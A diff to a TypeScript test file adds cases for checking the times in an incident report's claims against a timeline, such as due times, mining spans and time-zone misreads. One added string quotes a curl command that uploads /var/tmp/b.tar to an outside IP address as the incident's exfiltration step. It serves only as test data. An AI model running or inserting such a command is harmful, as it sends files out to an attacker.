@@ -23,6 +23,21 @@ const span = (of: Happening | 'dwell', from: string, to: string): Said => ({
   to: clock(to),
 });
 
+const sent = 'deploy ran curl -s -T /var/tmp/b.tar http://203.0.113[.]89:8080/u on build-7';
+const due = {
+  manual_steps: [
+    {
+      text: 'Cut off deploy by hand',
+      why: 'no command does it',
+      how: null,
+      owner: 'incident lead',
+      due: '2026-02-10T19:00:30Z',
+      evidence: ['linux.auth:08:15:02'],
+      evidence_count: 1,
+    },
+  ],
+};
+
 export const timeCases: readonly Case[] = [
   { check: 'moments', name: 'a sign-in to the minute', says: [moment('access', '08:15')], finds: 'supported' },
   {
@@ -58,11 +73,37 @@ export const timeCases: readonly Case[] = [
     finds: 'unsupported',
   },
   { check: 'moments', name: 'the time of the report', says: [moment('report', '17:00')], finds: null },
+  {
+    check: 'moments',
+    name: 'a time by which something is due',
+    says: [{ ...moment('isolation', '19:00'), label: 'Due (UTC)' }],
+    on: due,
+    finds: 'supported',
+  },
+  {
+    check: 'moments',
+    name: 'a time by which nothing is due',
+    says: [{ ...moment('isolation', '20:00'), label: 'Due (UTC)' }],
+    on: due,
+    finds: null,
+  },
+  {
+    check: 'moments',
+    name: 'an entry in the words of the timeline',
+    says: [{ ...moment('download', '13:31'), words: sent }],
+    finds: 'supported',
+  },
+  {
+    check: 'moments',
+    name: 'the same at another time',
+    says: [{ ...moment('download', '12:31'), words: sent }],
+    finds: 'contradicted',
+  },
   { check: 'moments', name: 'a zone misread weighs on no time', says: local, finds: 'supported' },
   {
     check: 'clocks',
     name: 'a zone misread is said once',
-    says: local.toReversed(),
+    says: local.toReversed().map((said) => ({ ...said, isZoneAssumed: true })),
     finds: 'unsupported',
     why: /5 h later/,
   },
@@ -86,6 +127,13 @@ export const timeCases: readonly Case[] = [
     why: /08:30:08 UTC/,
   },
   { check: 'spans', name: 'mining from its first run', says: [span('mining', '08:30', '14:30')], finds: 'supported' },
+  {
+    check: 'spans',
+    name: 'mining until after the end',
+    says: [span('mining', '08:30', '18:30')],
+    finds: 'contradicted',
+    why: /ended by 2026-02-10 15:52:30/,
+  },
   {
     check: 'spans',
     name: 'a window that holds the act',
